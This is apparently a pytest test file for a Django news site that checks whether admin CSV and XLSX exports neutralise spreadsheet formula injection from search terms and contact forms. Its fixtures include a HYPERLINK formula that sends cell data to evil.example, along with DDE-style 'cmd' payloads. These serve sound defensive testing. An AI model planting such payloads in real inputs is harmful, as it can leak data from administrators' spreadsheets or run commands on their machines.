"""Spreadsheet exports never carry a live formula, whatever readers typed (CSV / formula injection).

What readers type reaches the admin's exports through the real public endpoints (the search-hit beacon, the
contact form); the exports are then downloaded as an administrator, as CSV and as XLSX (read back with openpyxl).
"""

import csv
import io

from django.contrib.auth import get_user_model

import pytest
from openpyxl import load_workbook

from journos.core.csv_safety import spreadsheet_safe
from journos.pages.factories import ContactPageFactory
from journos.pages.models import ContactFormField

pytestmark = pytest.mark.django_db

SEARCH_TERMS = "/admin/searchpicks/reports/search-terms/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("plain text", "plain text"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_text_that_could_start_a_formula_is_quoted(value, safe):
    assert spreadsheet_safe(value) == safe


@pytest.fixture
def administrator(home):
    return get_user_model().objects.create_superuser(username="chief", email="chief@newsroom.example")


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def xlsx_cells(response) -> list[tuple]:
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def xlsx_formulas(response) -> list[str]:
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_search_term_comes_out_of_the_search_terms_report_as_text(client, administrator):
    for query in (FORMULA, "-2+3", "walrus"):
        assert client.post("/search/hits/", {"q": query}).status_code == 204

    client.force_login(administrator)
    report = SEARCH_TERMS
    rows = csv_rows(client.get(report, {"export": "csv"}))
    terms = {row[0] for row in rows[1:]}
    assert terms == {"'" + FORMULA.lower(), "'-2+3", "walrus"}

    cells = xlsx_cells(client.get(report, {"export": "xlsx"}))
    assert {row[0] for row in cells[1:]} == terms
    assert xlsx_formulas(client.get(report, {"export": "xlsx"})) == []


def test_csv_fields_are_all_quoted_so_a_semicolon_cannot_open_a_cell(client, administrator):
    """Spreadsheets in many locales split CSV on ';': an unquoted `x;=1+1` would put a formula in a new cell."""
    assert client.post("/search/hits/", {"q": "x;=1+1"}).status_code == 204
    client.force_login(administrator)
    text = b"".join(client.get(SEARCH_TERMS, {"export": "csv"}).streaming_content).decode()
    assert '"x;=1+1"' in text.splitlines()[1]


def test_contact_form_submissions_export_as_text(client, administrator, home):
    contact = ContactPageFactory(parent=home)
    ContactFormField.objects.create(page=contact, label="Your name", field_type="singleline", required=True)
    ContactFormField.objects.create(page=contact, label="Message", field_type="multiline", required=True)
    response = client.post(contact.url, {"your_name": "@SUM(1+1)*cmd|' /C calc'!A0", "message": FORMULA})
    assert response.status_code == 200

    client.force_login(administrator)
    url = f"/admin/forms/submissions/{contact.pk}/"
    header, row = csv_rows(client.get(url, {"export": "csv"}))
    submitted = dict(zip(header, row, strict=True))
    assert submitted["Your name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert submitted["Message"] == "'" + FORMULA

    header, row = xlsx_cells(client.get(url, {"export": "xlsx"}))
    assert dict(zip(header, row, strict=True))["Message"] == "'" + FORMULA
    assert xlsx_formulas(client.get(url, {"export": "xlsx"})) == []
